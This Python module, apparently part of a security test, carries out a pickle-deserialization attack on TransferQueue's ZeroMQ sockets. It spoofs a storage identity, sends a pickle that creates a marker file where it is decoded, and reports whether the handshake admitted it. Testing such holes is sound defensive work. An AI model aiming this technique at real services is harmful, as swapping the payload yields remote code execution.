"""The attack on TransferQueue's sockets: a message whose pickle creates a file in the process that decodes it."""

import pickle
import time
from pathlib import Path
from typing import Any

import zmq
from zmq.utils.monitor import parse_monitor_message

DECIDED_S = 20.0
# The library's mark of a message that is one pickle (serial_utils.py).
PICKLE_MARK = b"\xc1\xfe\xed"
# A storage unit drops messages of any other identity.
IDENTITY = b"TQ_STORAGE_stranger"


class CreatesFile:
    """Its pickle creates `path` where it is loaded."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.path,)


def malicious_frames(path: Path) -> list[bytes]:
    return [PICKLE_MARK, pickle.dumps(CreatesFile(path))]


def attack(address: str, path: Path, keys: tuple[bytes, bytes, bytes] | None = None) -> bool:
    """Send the message to `address` and tell whether the connection was admitted.

    `keys`: the server's public key, and the attacker's public and secret one; None: a plain connection.
    """
    context = zmq.Context()
    socket = context.socket(zmq.DEALER)
    socket.identity = IDENTITY
    if keys is not None:
        socket.curve_serverkey, socket.curve_publickey, socket.curve_secretkey = keys
    try:
        socket.linger = 0
        outcome = socket.get_monitor_socket()
        socket.connect(address)
        socket.send_multipart(malicious_frames(path))
        return admitted(outcome)
    finally:
        socket.disable_monitor()
        context.destroy(linger=0)


def admitted(monitor: zmq.Socket[bytes]) -> bool:
    """Tell how the handshake of a connecting socket ended; an error if it is open after DECIDED_S."""
    deadline = time.monotonic() + DECIDED_S
    refused = {zmq.EVENT_HANDSHAKE_FAILED_NO_DETAIL, zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL}
    refused |= {zmq.EVENT_HANDSHAKE_FAILED_AUTH, zmq.EVENT_DISCONNECTED}
    while monitor.poll(max(0, int(1000 * (deadline - time.monotonic())))):
        event = parse_monitor_message(monitor.recv_multipart())["event"]
        if event == zmq.EVENT_HANDSHAKE_SUCCEEDED:
            time.sleep(0.2)  # a message sent before it closes is delivered
            return True
        if event in refused:
            return False
    raise TimeoutError(f"waited {DECIDED_S:.0f} s for the handshake to end")
